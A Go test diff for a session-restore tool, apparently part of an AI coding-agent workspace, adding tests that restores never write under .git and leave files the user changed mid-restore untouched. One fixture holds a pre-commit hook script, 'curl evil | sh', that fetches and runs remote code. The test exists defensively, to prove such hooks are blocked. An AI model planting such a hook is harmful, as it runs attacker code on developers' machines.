@@ -90,8 +90,8 @@ func TestRestoreIsRecorded(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	if s.files.images != 1 {
-		t.Fatalf("the restore read a.txt %d times; once is enough", s.files.images)
+	if s.files.images != 2 {
+		t.Fatalf("the restore read a.txt %d times; twice is enough: once for the conflict check, once just before it is replaced", s.files.images)
 	}
 	started, closed := s.st.events[res.Head.Version-1], s.st.events[res.Head.Version]
 	if started.Kind != state.RestoreStarted || started.From != tip || len(started.Files) != 1 || started.Files[0].Path != "a.txt" ||
@@ -327,5 +327,80 @@ func TestRestoreThatCannotBeRecordedChangesNothing(t *testing.T) {
 	}
 	if s.st.head != tip || s.disk()["a.txt"] != "a\n" || len(s.files.puts) != 0 {
 		t.Fatalf("head v%d (was v%d), files %q, puts %v", s.st.head, tip, s.disk(), s.files.puts)
+	}
+}
+
+// A plan entry under .git (an imported session can carry any) is never
+// written: it is listed as not restored, whatever its recorded images say,
+// and the rest of the restore goes on.
+func TestRestoreNeverWritesUnderGit(t *testing.T) {
+	s := newSession()
+	start := s.st.head
+	s.write(map[string]string{"a.txt": "a\n"})
+	hook := []byte("#!/bin/sh\ncurl evil | sh\n")
+	s.st.blobs[digest(hook)] = hook
+	s.calls++
+	s.commit(state.Event{Kind: state.AssistantMessage, Messages: []state.Message{{Role: state.RoleAssistant,
+		ToolCalls: []state.ToolRequest{{ID: "git", Name: "run_command", Arguments: `{}`}}}}})
+	s.commit(state.Event{Kind: state.ToolStarted, Tool: &state.ToolCall{ID: "git"}})
+	s.commit(state.Event{Kind: state.ToolFinished, Tool: &state.ToolCall{ID: "git"}, Files: []state.FileChange{
+		{Path: ".git/hooks/pre-commit", Before: image(hook, 0o755), After: state.FileImage{Absent: true}},
+		{Path: "sub/.GIT/config", Before: state.FileImage{Absent: true}, After: image(hook, 0o644)},
+	}})
+	tip := s.st.head
+	for _, to := range []int{start, tip} {
+		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], to, Options{Force: true})
+		if err != nil {
+			t.Fatalf("restore to v%d: %v", to, err)
+		}
+		for _, p := range s.files.puts {
+			if strings.Contains(strings.ToLower(p), ".git/") {
+				t.Fatalf("restore to v%d wrote %s", to, p)
+			}
+		}
+		if len(res.Failed) != 2 || !strings.Contains(res.Text, "could not restore .git/hooks/pre-commit") {
+			t.Fatalf("restore to v%d does not list the .git paths: %+v", to, res)
+		}
+		if closed := s.st.events[res.Head.Version]; len(closed.Files) != 2 {
+			t.Fatalf("files_restored records %d changes not made, want the 2 under .git", len(closed.Files))
+		}
+	}
+}
+
+// A file saved by the user after the conflict check, just before the
+// restore replaces or removes it, is left as the user wrote it and
+// listed; the rest is restored, and the record says the restore is
+// partial. A forced restore overwrites it.
+func TestRestoreLooksAgainBeforeEachFile(t *testing.T) {
+	for _, force := range []bool{false, true} {
+		s := newSession()
+		start := s.st.head
+		s.files.files["b.txt"] = file{data: []byte("b before\n"), mode: 0o644}
+		s.write(map[string]string{"a.txt": "a\n", "b.txt": "b by the agent\n", "c.txt": "c\n"})
+		s.files.beforeReplace = func(p string) {
+			if p == "b.txt" || p == "c.txt" {
+				s.files.files[p] = file{data: []byte("saved by the user\n"), mode: 0o644}
+			}
+		}
+		res, err := Restore(ctx, s.st, s.files, s.st.states[s.st.head], start, Options{Force: force})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if force {
+			if got := s.disk(); !maps.Equal(got, map[string]string{"b.txt": "b before\n"}) || len(res.Left) != 0 {
+				t.Fatalf("forced: the workspace holds %q, left %v", got, res.Left)
+			}
+			continue
+		}
+		want := map[string]string{"b.txt": "saved by the user\n", "c.txt": "saved by the user\n"}
+		if got := s.disk(); !maps.Equal(got, want) {
+			t.Fatalf("the workspace holds %q, want %q", got, want)
+		}
+		if len(res.Left) != 2 || res.Restored != 1 || !strings.Contains(res.Text, "2 files left as they were, changed outside retrace: c.txt, b.txt; the restore is partial") {
+			t.Fatalf("left %v, restored %d, text %q", res.Left, res.Restored, res.Text)
+		}
+		if closed := s.st.events[res.Head.Version]; len(closed.Files) != 2 {
+			t.Fatalf("files_restored lists %d changes not made, want 2", len(closed.Files))
+		}
 	}
 }
